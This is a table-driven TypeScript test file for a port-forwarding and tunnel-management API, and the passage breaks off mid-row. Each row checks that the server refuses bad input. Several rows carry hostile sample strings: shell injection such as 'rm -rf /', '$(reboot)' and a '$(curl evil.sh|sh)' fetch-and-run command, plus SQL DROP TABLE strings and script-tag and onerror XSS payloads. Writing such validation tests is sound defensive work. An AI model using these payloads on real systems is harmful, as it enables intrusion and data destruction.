/**
 * Bad input, table-driven: every row is a request the server must refuse with a 4xx, a stable
 * error code, a message a person can act on (naming the field when there is one), and no change
 * to the database. Wrong types, out-of-range numbers, overlong strings, overlapping port ranges,
 * invalid addresses and networks, SQL/HTML/shell metacharacters in names, and broken bodies.
 */
import type { ApiTokenCreated, PortForward, ServiceTemplate, User } from '@wirewarp/protocol'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { insertAgent } from '../src/store/agents.ts'
import { insertTunnelClient } from '../src/store/tunnelClients.ts'
import { insertTunnelServer } from '../src/store/tunnelServers.ts'
import { type Client, seedTunnel, signIn, skipDb, startTestServer, type TestServer } from './harness.ts'

type Page<T> = { items: T[] }
type Seeded = Awaited<ReturnType<typeof seedTunnel>>

/** Ids the rows refer to, known once the fixtures exist. */
interface Fx {
  server: string
  client: string
  /** A second client of `server`, at 10.99.0.3. */
  neighbour: string
  otherServer: string
  otherClient: string
  /** A tunnel server with no clients: only the validation of its settings can refuse a change. */
  spareServer: string
  tcpForward: string
  udpRange: string
  adminId: string
  bob: string
  apiToken: string
  dayz: string
  minecraft: string
  webTemplate: string
  customTemplate: string
}

type Method = 'GET' | 'POST' | 'PATCH' | 'DELETE'

interface Row {
  name: string
  method: Method
  url: string | ((f: Fx) => string)
  /** A value sent as JSON, a raw string sent as is, or a function of the fixtures. */
  body?: unknown
  headers?: Record<string, string>
  /** The exact status expected. */
  status: number
  code?: string
  /** The field the error must name, in `error.fields` (or, failing that, in the message). */
  field?: string
  /** Something the message must contain, e.g. the id of the conflicting forward. */
  mentions?: (f: Fx) => string
  /**
   * The server does not behave like this yet (see the note): the row runs as an expected failure,
   * and starts failing once the server is fixed, as a reminder to drop the note.
   */
  knownBug?: string
}

const NONE = '00000000-0000-4000-8000-000000000000'
const BAD_ID = 'not-a-uuid'

/** A valid new forward on the seeded server, with `over` applied (`undefined` removes a field). */
const forward =
  (over: Record<string, unknown> = {}) =>
  (f: Fx) => {
    const body: Record<string, unknown> = {
      tunnelServerId: f.server,
      tunnelClientId: f.client,
      protocol: 'tcp',
      publicPort: 8080,
      destinationIp: '192.168.1.10',
      destinationPort: 80,
      ...over,
    }
    for (const [k, v] of Object.entries(over)) if (v === undefined) delete body[k]
    return body
  }

const user = (over: Record<string, unknown> = {}) => ({
  email: 'new.user@example.com',
  name: 'New User',
  password: 'a long enough password',
  ...over,
})

const PF = '/api/v1/port-forwards'
const U = '/api/v1/users'
const TS = (f: Fx) => `/api/v1/tunnel-servers/${f.server}`
const TC = (f: Fx) => `/api/v1/tunnel-clients/${f.client}`
const AT = '/api/v1/api-tokens'
const RT = '/api/v1/registration-tokens'
const ST = '/api/v1/service-templates'

const rows: Row[] = [
  // ---- port forwards: types and ranges --------------------------------------------------------
  {
    name: 'forward: publicPort 0',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 0 }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort 65536',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 65536 }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort as a string "80"',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: '80' }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort 1.5',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 1.5 }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort null',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: null }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort -1',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: -1 }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: publicPort missing',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: undefined }),
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: destinationIp missing',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: undefined }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: tunnelServerId missing',
    method: 'POST',
    url: PF,
    body: forward({ tunnelServerId: undefined }),
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },
  {
    name: 'forward: empty object',
    method: 'POST',
    url: PF,
    body: {},
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },
  {
    name: 'forward: publicPortEnd below publicPort',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 8080, publicPortEnd: 8000 }),
    status: 400,
    code: 'validation',
    field: 'publicPortEnd',
  },
  {
    name: 'forward: destination range past 65535',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 8000, publicPortEnd: 8010, destinationPort: 65530 }),
    status: 400,
    code: 'validation',
    field: 'destinationPort',
  },
  {
    name: 'forward: destinationPort 65536',
    method: 'POST',
    url: PF,
    body: forward({ destinationPort: 65536 }),
    status: 400,
    code: 'validation',
    field: 'destinationPort',
  },
  {
    name: 'forward: destinationIp 999.1.1.1',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: '999.1.1.1' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: destinationIp 10.0.0 (three parts)',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: '10.0.0' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: destinationIp a host name',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: 'example.com' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: destinationIp with a shell command',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: '1.2.3.4; rm -rf /' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: destinationIp 0x7f.1 (legacy form)',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: '0x7f.1' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: destinationIp with a zone id',
    method: 'POST',
    url: PF,
    body: forward({ destinationIp: 'fe80::1%eth0' }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forward: protocol icmp',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'icmp' }),
    status: 400,
    code: 'validation',
    field: 'protocol',
  },
  {
    name: 'forward: protocol TCP (case)',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'TCP' }),
    status: 400,
    code: 'validation',
    field: 'protocol',
  },
  {
    name: 'forward: description of 201 characters',
    method: 'POST',
    url: PF,
    body: forward({ description: 'x'.repeat(201) }),
    status: 400,
    code: 'validation',
    field: 'description',
  },
  {
    name: 'forward: description with a line break',
    method: 'POST',
    url: PF,
    body: forward({ description: 'line one\nline two' }),
    status: 400,
    code: 'validation',
    field: 'description',
  },
  {
    name: 'forward: description with a NUL byte',
    method: 'POST',
    url: PF,
    body: forward({ description: 'nul\u0000byte' }),
    status: 400,
    code: 'validation',
    field: 'description',
  },
  {
    name: 'forward: enabled as a string',
    method: 'POST',
    url: PF,
    body: forward({ enabled: 'yes' }),
    status: 400,
    code: 'validation',
    field: 'enabled',
  },
  {
    name: 'forward: unknown field admin',
    method: 'POST',
    url: PF,
    body: forward({ admin: true }),
    status: 400,
    code: 'validation',
    field: 'admin',
  },
  {
    name: 'forward: tunnelServerId with SQL',
    method: 'POST',
    url: PF,
    body: forward({ tunnelServerId: "' OR 1=1 --" }),
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },

  // ---- port forwards: conflicts and references ------------------------------------------------
  {
    name: 'forward: tcp 25565 overlaps the existing tcp 25565',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 25565, destinationPort: 25565 }),
    status: 409,
    code: 'forward.conflict',
    field: 'publicPort',
    mentions: () => `"Minecraft" (TCP 25565)`,
  },
  {
    name: 'forward: tcp range 25560–25570 overlaps tcp 25565',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 25560, publicPortEnd: 25570, destinationPort: 25560 }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Minecraft" (TCP 25565)`,
  },
  {
    name: 'forward: udp 27018 inside the existing udp range 27015–27020',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'udp', publicPort: 27018, destinationPort: 27018 }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Source engine" (UDP 27015–27020)`,
  },
  {
    name: 'forward: udp range 27010–27015 touches the end of 27015–27020',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'udp', publicPort: 27010, publicPortEnd: 27015, destinationPort: 27010 }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Source engine" (UDP 27015–27020)`,
  },
  {
    name: 'forward: "both" 25565 overlaps the tcp forward',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'both', publicPort: 25565, destinationPort: 25565 }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Minecraft" (TCP 25565)`,
  },
  {
    name: 'forward: udp on the WireGuard port 51820',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'udp', publicPort: 51820, destinationPort: 51820 }),
    status: 409,
    code: 'forward.conflict',
    field: 'publicPort',
    mentions: () => '51820',
  },
  {
    name: 'forward: "both" range 51810–51830 spans the WireGuard port',
    method: 'POST',
    url: PF,
    body: forward({ protocol: 'both', publicPort: 51810, publicPortEnd: 51830, destinationPort: 51810 }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => '51820',
  },
  {
    name: 'forward: tunnelClientId of another server’s client',
    method: 'POST',
    url: PF,
    body: (f: Fx) => forward({ tunnelClientId: f.otherClient })(f),
    status: 400,
    code: 'validation',
    field: 'tunnelClientId',
  },
  {
    name: 'forward: nonexistent tunnelServerId',
    method: 'POST',
    url: PF,
    body: forward({ tunnelServerId: NONE }),
    status: 404,
    code: 'not_found',
    field: 'tunnelServerId',
  },
  {
    name: 'forward: nonexistent tunnelClientId',
    method: 'POST',
    url: PF,
    body: forward({ tunnelClientId: NONE }),
    status: 404,
    code: 'not_found',
    field: 'tunnelClientId',
  },
  {
    name: 'forward: GET with a non-UUID id',
    method: 'GET',
    url: `${PF}/${BAD_ID}`,
    status: 400,
    code: 'validation',
    field: 'id',
  },
  { name: 'forward: GET a nonexistent id', method: 'GET', url: `${PF}/${NONE}`, status: 404, code: 'not_found' },
  {
    name: 'forward: DELETE with SQL in the path',
    method: 'DELETE',
    url: `${PF}/${encodeURIComponent("x'; DROP TABLE port_forwards;--")}`,
    status: 400,
    code: 'validation',
    field: 'id',
  },
  {
    name: 'forward: enable with a non-UUID id',
    method: 'POST',
    url: `${PF}/${BAD_ID}/enable`,
    body: {},
    status: 400,
    code: 'validation',
    field: 'id',
  },
  {
    name: 'forward: PATCH publicPort 70000',
    method: 'PATCH',
    url: (f) => `${PF}/${f.tcpForward}`,
    body: { publicPort: 70000 },
    status: 400,
    code: 'validation',
    field: 'publicPort',
  },
  {
    name: 'forward: PATCH range end below its start',
    method: 'PATCH',
    url: (f) => `${PF}/${f.udpRange}`,
    body: { publicPortEnd: 27000 },
    status: 400,
    code: 'validation',
    field: 'publicPortEnd',
  },
  {
    name: 'forward: PATCH onto the WireGuard port',
    method: 'PATCH',
    url: (f) => `${PF}/${f.tcpForward}`,
    body: { protocol: 'udp', publicPort: 51820 },
    status: 409,
    code: 'forward.conflict',
    mentions: () => '51820',
  },
  {
    name: 'forward: PATCH tcp onto the udp range as "both"',
    method: 'PATCH',
    url: (f) => `${PF}/${f.tcpForward}`,
    body: { protocol: 'both', publicPort: 27017, destinationPort: 27017 },
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Source engine" (UDP 27015–27020)`,
  },
  {
    name: 'forward: PATCH tunnelServerId (not changeable)',
    method: 'PATCH',
    url: (f) => `${PF}/${f.tcpForward}`,
    body: (f: Fx) => ({ tunnelServerId: f.otherServer }),
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },
  {
    name: 'forward: PATCH onto another server’s client',
    method: 'PATCH',
    url: (f) => `${PF}/${f.tcpForward}`,
    body: (f: Fx) => ({ tunnelClientId: f.otherClient }),
    status: 400,
    code: 'validation',
    field: 'tunnelClientId',
  },
  {
    name: 'forward from template: nonexistent template',
    method: 'POST',
    url: `${PF}/from-template`,
    body: (f: Fx) => ({
      templateId: NONE,
      tunnelServerId: f.server,
      tunnelClientId: f.client,
      destinationIp: '192.168.1.10',
    }),
    status: 404,
    code: 'not_found',
    field: 'templateId',
  },
  {
    name: 'forward from template: Minecraft Java conflicts with tcp 25565',
    method: 'POST',
    url: `${PF}/from-template`,
    body: (f: Fx) => ({
      templateId: f.minecraft,
      tunnelServerId: f.server,
      tunnelClientId: f.client,
      destinationIp: '192.168.1.10',
    }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Minecraft" (TCP 25565)`,
  },
  {
    // Its first port (udp 2302–2305) is free; the second (udp 27016) is not: nothing may remain.
    name: 'forward from template: DayZ fails on its second port, all or none',
    method: 'POST',
    url: `${PF}/from-template`,
    body: (f: Fx) => ({
      templateId: f.dayz,
      tunnelServerId: f.server,
      tunnelClientId: f.client,
      destinationIp: '192.168.1.10',
    }),
    status: 409,
    code: 'forward.conflict',
    mentions: () => `"Source engine" (UDP 27015–27020)`,
  },
  {
    name: 'forward from template: client of another server',
    method: 'POST',
    url: `${PF}/from-template`,
    body: (f: Fx) => ({
      templateId: f.webTemplate,
      tunnelServerId: f.server,
      tunnelClientId: f.otherClient,
      destinationIp: '192.168.1.10',
    }),
    status: 400,
    code: 'validation',
    field: 'tunnelClientId',
  },
  {
    name: 'forward from template: destinationIp with HTML',
    method: 'POST',
    url: `${PF}/from-template`,
    body: (f: Fx) => ({
      templateId: f.webTemplate,
      tunnelServerId: f.server,
      tunnelClientId: f.client,
      destinationIp: '<b>1.2.3.4</b>',
    }),
    status: 400,
    code: 'validation',
    field: 'destinationIp',
  },
  {
    name: 'forwards: list with limit=0',
    method: 'GET',
    url: `${PF}?limit=0`,
    status: 400,
    code: 'validation',
    field: 'limit',
  },
  {
    name: 'forwards: list filtered by a non-UUID server',
    method: 'GET',
    url: `${PF}?tunnelServerId=1%20OR%201=1`,
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },

  // ---- users ----------------------------------------------------------------------------------
  {
    name: 'user: email without @',
    method: 'POST',
    url: U,
    body: user({ email: 'not-an-email' }),
    status: 400,
    code: 'validation',
    field: 'email',
  },
  {
    name: 'user: email with SQL',
    method: 'POST',
    url: U,
    body: user({ email: "x'); DROP TABLE users;--@example.com" }),
    status: 400,
    code: 'validation',
    field: 'email',
  },
  {
    name: 'user: email of 255 characters',
    method: 'POST',
    url: U,
    body: user({ email: `${'a'.repeat(243)}@example.com` }),
    status: 400,
    code: 'validation',
    field: 'email',
  },
  {
    name: 'user: password of 11 characters',
    method: 'POST',
    url: U,
    body: user({ password: 'elevenchars' }),
    status: 400,
    code: 'validation',
    field: 'password',
  },
  {
    name: 'user: password of 257 characters',
    method: 'POST',
    url: U,
    body: user({ password: 'p'.repeat(257) }),
    status: 400,
    code: 'validation',
    field: 'password',
  },
  {
    name: 'user: password as a number',
    method: 'POST',
    url: U,
    body: user({ password: 123456789012 }),
    status: 400,
    code: 'validation',
    field: 'password',
  },
  {
    name: 'user: name with a script tag',
    method: 'POST',
    url: U,
    body: user({ name: '<script>alert(1)</script>' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with SQL',
    method: 'POST',
    url: U,
    body: user({ name: "Robert'); DROP TABLE users;--" }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with $(reboot)',
    method: 'POST',
    url: U,
    body: user({ name: '$(reboot)' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with backticks',
    method: 'POST',
    url: U,
    body: user({ name: '`id`' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with a pipe',
    method: 'POST',
    url: U,
    body: user({ name: 'a|b' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with &&',
    method: 'POST',
    url: U,
    body: user({ name: 'a&&b' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with a semicolon',
    method: 'POST',
    url: U,
    body: user({ name: 'a; reboot' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with a quote',
    method: 'POST',
    url: U,
    body: user({ name: "O'Brien" }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with a line break',
    method: 'POST',
    url: U,
    body: user({ name: 'two\nlines' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name with a right-to-left override',
    method: 'POST',
    url: U,
    body: user({ name: 'evil\u202Etxt.exe' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name of 65 characters',
    method: 'POST',
    url: U,
    body: user({ name: 'n'.repeat(65) }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: empty name',
    method: 'POST',
    url: U,
    body: user({ name: '' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name of only spaces',
    method: 'POST',
    url: U,
    body: user({ name: '    ' }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: name as an object',
    method: 'POST',
    url: U,
    body: user({ name: { $ne: null } }),
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'user: role root',
    method: 'POST',
    url: U,
    body: user({ role: 'root' }),
    status: 400,
    code: 'validation',
    field: 'role',
  },
  {
    name: 'user: unknown field isAdmin',
    method: 'POST',
    url: U,
    body: user({ isAdmin: true }),
    status: 400,
    code: 'validation',
    field: 'isAdmin',
  },
  {
    name: 'user: duplicate email',
    method: 'POST',
    url: U,
    body: user({ email: 'bob@example.com' }),
    status: 409,
    code: 'user.email_taken',
    field: 'email',
    mentions: () => 'bob@example.com',
  },
  {
    name: 'user: duplicate email in other case',
    method: 'POST',
    url: U,
    body: user({ email: 'BOB@Example.COM' }),
    status: 409,
    code: 'user.email_taken',
    field: 'email',
  },
  {
    name: 'user: PATCH role superuser',
    method: 'PATCH',
    url: (f) => `${U}/${f.bob}`,
    body: { role: 'superuser' },
    status: 400,
    code: 'validation',
    field: 'role',
  },
  {
    name: 'user: PATCH disabled "yes"',
    method: 'PATCH',
    url: (f) => `${U}/${f.bob}`,
    body: { disabled: 'yes' },
    status: 400,
    code: 'validation',
    field: 'disabled',
  },
  {
    name: 'user: PATCH email taken by the admin',
    method: 'PATCH',
    url: (f) => `${U}/${f.bob}`,
    body: { email: 'admin@example.com' },
    status: 409,
    code: 'user.email_taken',
    field: 'email',
  },
  {
    name: 'user: PATCH demotes the last admin',
    method: 'PATCH',
    url: (f) => `${U}/${f.adminId}`,
    body: { role: 'user' },
    status: 409,
    code: 'user.last_admin',
  },
  {
    name: 'user: DELETE the last admin',
    method: 'DELETE',
    url: (f) => `${U}/${f.adminId}`,
    status: 409,
    code: 'user.last_admin',
  },
  {
    name: 'user: PATCH a nonexistent user',
    method: 'PATCH',
    url: `${U}/${NONE}`,
    body: { name: 'Nobody' },
    status: 404,
    code: 'not_found',
  },
  {
    name: 'users: list with limit=abc',
    method: 'GET',
    url: `${U}?limit=abc`,
    status: 400,
    code: 'validation',
    field: 'limit',
  },
  {
    name: 'users: list with an unknown query parameter',
    method: 'GET',
    url: `${U}?role=admin`,
    status: 400,
    code: 'validation',
    field: 'role',
  },

  // ---- tunnel servers -------------------------------------------------------------------------
  {
    name: 'tunnel server: network with host bits 10.99.0.1/24',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: '10.99.0.1/24' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: prefix /33',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: '10.99.0.0/33' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: IPv6 network as tunnelNetworkV4',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: 'fd00::/64' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: network without a prefix',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: '10.99.0.0' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: network with a shell command',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: '10.0.0.0/8;reboot' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: IPv4 network as tunnelNetworkV6',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV6: '10.0.0.0/8' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV6',
  },
  {
    name: 'tunnel server: new network that leaves the client at 10.99.0.2 outside',
    method: 'PATCH',
    url: TS,
    body: { tunnelNetworkV4: '10.50.0.0/24' },
    status: 409,
    code: 'tunnel_server.network_in_use',
    field: 'tunnelNetworkV4',
    mentions: () => '10.99.0.2',
  },
  {
    name: 'tunnel server: mtu 100',
    method: 'PATCH',
    url: TS,
    body: { mtu: 100 },
    status: 400,
    code: 'validation',
    field: 'mtu',
  },
  {
    name: 'tunnel server: mtu 9001',
    method: 'PATCH',
    url: TS,
    body: { mtu: 9001 },
    status: 400,
    code: 'validation',
    field: 'mtu',
  },
  {
    name: 'tunnel server: wgPort 70000',
    method: 'PATCH',
    url: TS,
    body: { wgPort: 70000 },
    status: 400,
    code: 'validation',
    field: 'wgPort',
  },
  {
    name: 'tunnel server: wgPort taken by the udp range',
    method: 'PATCH',
    url: TS,
    body: { wgPort: 27017 },
    status: 409,
    code: 'tunnel_server.port_in_use',
    field: 'wgPort',
  },
  {
    name: 'tunnel server: wgInterface with a shell command',
    method: 'PATCH',
    url: TS,
    body: { wgInterface: 'eth0; reboot' },
    status: 400,
    code: 'validation',
    field: 'wgInterface',
  },
  {
    name: 'tunnel server: wgInterface of 16 characters',
    method: 'PATCH',
    url: TS,
    body: { wgInterface: 'wg0123456789abcd' },
    status: 400,
    code: 'validation',
    field: 'wgInterface',
  },
  {
    name: 'tunnel server: publicInterface with a slash',
    method: 'PATCH',
    url: TS,
    body: { publicInterface: '../eth0' },
    status: 400,
    code: 'validation',
    field: 'publicInterface',
  },
  {
    name: 'tunnel server: dns with a non-address',
    method: 'PATCH',
    url: TS,
    body: { dns: ['8.8.8.8', 'x'] },
    status: 400,
    code: 'validation',
    field: 'dns.1',
  },
  {
    name: 'tunnel server: five dns servers',
    method: 'PATCH',
    url: TS,
    body: { dns: ['1.1.1.1', '1.0.0.1', '8.8.8.8', '8.8.4.4', '9.9.9.9'] },
    status: 400,
    code: 'validation',
    field: 'dns',
  },
  {
    name: 'tunnel server: publicIp 300.1.1.1',
    method: 'PATCH',
    url: TS,
    body: { publicIp: '300.1.1.1' },
    status: 400,
    code: 'validation',
    field: 'publicIp',
  },
  {
    name: 'tunnel server: name with HTML',
    method: 'PATCH',
    url: TS,
    body: { name: '<b>vps</b>' },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'tunnel server: PATCH a nonexistent server',
    method: 'PATCH',
    url: `/api/v1/tunnel-servers/${NONE}`,
    body: { mtu: 1400 },
    status: 404,
    code: 'not_found',
  },

  // ---- tunnel clients -------------------------------------------------------------------------
  {
    name: 'tunnel client: tunnelIp outside the network',
    method: 'PATCH',
    url: TC,
    body: { tunnelIp: '10.50.0.5' },
    status: 400,
    code: 'validation',
    field: 'tunnelIp',
  },
  {
    name: 'tunnel client: tunnelIp is the server’s own 10.99.0.1',
    method: 'PATCH',
    url: TC,
    body: { tunnelIp: '10.99.0.1' },
    status: 400,
    code: 'validation',
    field: 'tunnelIp',
  },
  {
    name: 'tunnel client: tunnelIp is the broadcast 10.99.0.255',
    method: 'PATCH',
    url: TC,
    body: { tunnelIp: '10.99.0.255' },
    status: 400,
    code: 'validation',
    field: 'tunnelIp',
  },
  {
    name: 'tunnel client: tunnelIp of its neighbour',
    method: 'PATCH',
    url: TC,
    body: { tunnelIp: '10.99.0.3' },
    status: 409,
    code: 'tunnel_client.ip_taken',
    field: 'tunnelIp',
  },
  {
    name: 'tunnel client: tunnelIp not an address',
    method: 'PATCH',
    url: TC,
    body: { tunnelIp: '10.99.0.x' },
    status: 400,
    code: 'validation',
    field: 'tunnelIp',
  },
  {
    name: 'tunnel client: lanNetworks 300.0.0.0/8',
    method: 'PATCH',
    url: TC,
    body: { lanNetworks: ['300.0.0.0/8'] },
    status: 400,
    code: 'validation',
    field: 'lanNetworks.0',
  },
  {
    name: 'tunnel client: lanNetworks with host bits',
    method: 'PATCH',
    url: TC,
    body: { lanNetworks: ['192.168.1.1/24'] },
    status: 400,
    code: 'validation',
    field: 'lanNetworks.0',
  },
  {
    name: 'tunnel client: lanNetworks as a string',
    method: 'PATCH',
    url: TC,
    body: { lanNetworks: '192.168.1.0/24' },
    status: 400,
    code: 'validation',
    field: 'lanNetworks',
  },
  {
    name: 'tunnel client: lanIp not in its LAN networks',
    method: 'PATCH',
    url: TC,
    body: { lanNetworks: ['192.168.1.0/24'], lanIp: '10.1.1.1' },
    status: 400,
    code: 'validation',
    field: 'lanIp',
  },
  {
    name: 'tunnel client: nonexistent tunnelServerId',
    method: 'PATCH',
    url: TC,
    body: { tunnelServerId: NONE },
    status: 404,
    code: 'not_found',
    field: 'tunnelServerId',
  },
  {
    name: 'tunnel client: isGateway "true"',
    method: 'PATCH',
    url: TC,
    body: { isGateway: 'true' },
    status: 400,
    code: 'validation',
    field: 'isGateway',
  },
  {
    name: 'tunnel client: name with shell characters',
    method: 'PATCH',
    url: TC,
    body: { name: 'homelab && reboot' },
    status: 400,
    code: 'validation',
    field: 'name',
  },

  // ---- API tokens -----------------------------------------------------------------------------
  {
    name: 'api token: empty name',
    method: 'POST',
    url: AT,
    body: { name: '' },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'api token: name with HTML',
    method: 'POST',
    url: AT,
    body: { name: '<img src=x onerror=alert(1)>' },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'api token: expiresInDays 0',
    method: 'POST',
    url: AT,
    body: { name: 'ci', expiresInDays: 0 },
    status: 400,
    code: 'validation',
    field: 'expiresInDays',
  },
  {
    name: 'api token: expiresInDays 99999',
    method: 'POST',
    url: AT,
    body: { name: 'ci', expiresInDays: 99999 },
    status: 400,
    code: 'validation',
    field: 'expiresInDays',
  },
  {
    name: 'api token: expiresInDays 1.5',
    method: 'POST',
    url: AT,
    body: { name: 'ci', expiresInDays: 1.5 },
    status: 400,
    code: 'validation',
    field: 'expiresInDays',
  },
  {
    name: 'api token: DELETE with a non-UUID id',
    method: 'DELETE',
    url: `${AT}/${BAD_ID}`,
    status: 400,
    code: 'validation',
    field: 'id',
  },
  {
    name: 'api token: DELETE a nonexistent token',
    method: 'DELETE',
    url: `${AT}/${NONE}`,
    status: 404,
    code: 'not_found',
  },

  // ---- registration tokens ----------------------------------------------------------------------
  {
    name: 'registration token: kind vm',
    method: 'POST',
    url: RT,
    body: { kind: 'vm', name: 'host 1' },
    status: 400,
    code: 'validation',
    field: 'kind',
  },
  {
    name: 'registration token: server token with a tunnelServerId',
    method: 'POST',
    url: RT,
    body: (f: Fx) => ({ kind: 'server', name: 'vps 3', tunnelServerId: f.server }),
    status: 400,
    code: 'validation',
    field: 'tunnelServerId',
  },
  {
    name: 'registration token: expiresInHours 0',
    method: 'POST',
    url: RT,
    body: { kind: 'server', name: 'vps 3', expiresInHours: 0 },
    status: 400,
    code: 'validation',
    field: 'expiresInHours',
  },
  {
    name: 'registration token: expiresInHours 721',
    method: 'POST',
    url: RT,
    body: { kind: 'server', name: 'vps 3', expiresInHours: 721 },
    status: 400,
    code: 'validation',
    field: 'expiresInHours',
  },
  {
    name: 'registration token: name with $(curl …|sh)',
    method: 'POST',
    url: RT,
    body: { kind: 'server', name: '$(curl evil.sh|sh)' },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'registration token: name with a single quote',
    method: 'POST',
    url: RT,
    body: { kind: 'server', name: "vps' --token 'x" },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'registration token: client of a nonexistent server',
    method: 'POST',
    url: RT,
    body: { kind: 'client', name: 'homelab 3', tunnelServerId: NONE },
    status: 404,
    code: 'not_found',
    field: 'tunnelServerId',
  },

  // ---- service templates ------------------------------------------------------------------------
  {
    name: 'template: no ports',
    method: 'POST',
    url: ST,
    body: { name: 'Empty', ports: [] },
    status: 400,
    code: 'validation',
    field: 'ports',
  },
  {
    name: 'template: port 0',
    method: 'POST',
    url: ST,
    body: { name: 'Zero', ports: [{ protocol: 'tcp', port: 0 }] },
    status: 400,
    code: 'validation',
    field: 'ports.0.port',
  },
  {
    name: 'template: portEnd below port',
    method: 'POST',
    url: ST,
    body: { name: 'Backwards', ports: [{ protocol: 'udp', port: 2000, portEnd: 1999 }] },
    status: 400,
    code: 'validation',
    field: 'ports.0.portEnd',
  },
  {
    name: 'template: protocol sctp',
    method: 'POST',
    url: ST,
    body: { name: 'Sctp', ports: [{ protocol: 'sctp', port: 5000 }] },
    status: 400,
    code: 'validation',
    field: 'ports.0.protocol',
  },
  {
    name: 'template: 21 ports',
    method: 'POST',
    url: ST,
    body: { name: 'Many', ports: Array.from({ length: 21 }, (_, i) => ({ protocol: 'tcp', port: 1000 + i })) },
    status: 400,
    code: 'validation',
    field: 'ports',
  },
  {
    name: 'template: name with HTML',
    method: 'POST',
    url: ST,
